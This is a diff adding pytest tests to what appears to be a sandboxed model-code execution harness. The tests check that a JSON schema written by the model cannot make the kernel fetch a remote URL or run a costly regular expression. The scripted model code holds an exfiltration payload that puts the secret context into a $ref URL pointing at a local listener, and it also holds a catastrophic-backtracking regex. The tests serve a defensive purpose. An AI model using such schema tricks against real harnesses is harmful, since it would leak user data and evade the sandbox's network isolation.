@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import ast
 import json
+import socket
 from typing import Literal
 
 import pytest
@@ -136,3 +137,36 @@ async def test_a_batch_job_gives_typed_answers_and_invalid_ones_are_item_errors(
 def test_a_fenced_json_answer_is_read():
     assert AnswerFormat(Label).parse('```json\n{"sentiment": "neutral", "score": 0}\n```') \
         == Label(sentiment="neutral", score=0)
+
+
+@pytest.mark.parametrize("sandbox", ["process", "none"])
+async def test_a_schema_from_model_code_cannot_make_the_kernel_fetch_a_url(server, tmp_path,
+                                                                        sandbox):
+    # The sandbox has no network; the kernel must not become its proxy (jsonschema
+    # would fetch a remote $ref itself), nor run its regular expressions on the loop.
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    server.reply_with("sub-model", lambda body: '"x"')
+    server.script("root-model", [
+        "```repl\n"
+        f"leak = llm_query('q', response_format={{'$ref': 'http://127.0.0.1:{port}/?d=' + context}})\n"
+        "slow = llm_query('q', response_format={'type': 'string', 'pattern': '^(a+)+$'})\n"
+        "FINAL(leak + ' | ' + slow)\n```"])
+    result = await make_rlm(server, sandbox=sandbox, cache_dir=str(tmp_path)).arun(
+        "q", context="SECRET")
+    leak, slow = result.final_answer.split(" | ")
+    assert leak.startswith("Error: response_format may refer only to its own definitions")
+    assert slow.startswith("Error: response_format from model code may not hold regular")
+    listener.settimeout(0.2)
+    with pytest.raises(TimeoutError):
+        listener.accept()  # nobody connected
+    listener.close()
+    assert server.requests_for("sub-model") == []
+
+
+async def test_a_notebook_schema_may_use_patterns_and_its_own_definitions(rlm):
+    schema = {"$defs": {"score": {"type": "integer"}}, "type": "object",
+              "properties": {"sentiment": {"type": "string", "pattern": "^[a-z]+$"},
+                             "score": {"$ref": "#/$defs/score"}}}
+    assert await rlm.helpers.llm_query("good", response_format=schema) == {
+        "sentiment": "positive", "score": 4}
